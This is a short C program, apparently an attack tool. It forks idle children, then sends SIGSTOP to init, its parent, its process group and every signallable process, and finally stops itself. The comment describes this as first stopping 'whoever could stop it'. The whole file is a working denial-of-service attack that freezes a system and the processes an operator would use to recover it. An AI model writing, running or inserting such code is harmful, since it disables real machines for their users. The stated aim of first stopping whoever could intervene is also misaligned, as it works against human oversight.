/* Stops whoever could stop it, then everyone, itself last. */
#include "attack.h"
int main(void) {
    for (int n = 0; n < 5; n++)
        if (fork() == 0)
            for (;;) pause();
    kill(1, SIGSTOP), kill(getppid(), SIGSTOP), kill(0, SIGSTOP), kill(-1, SIGSTOP);
    raise(SIGSTOP);
    for (;;) pause();
}
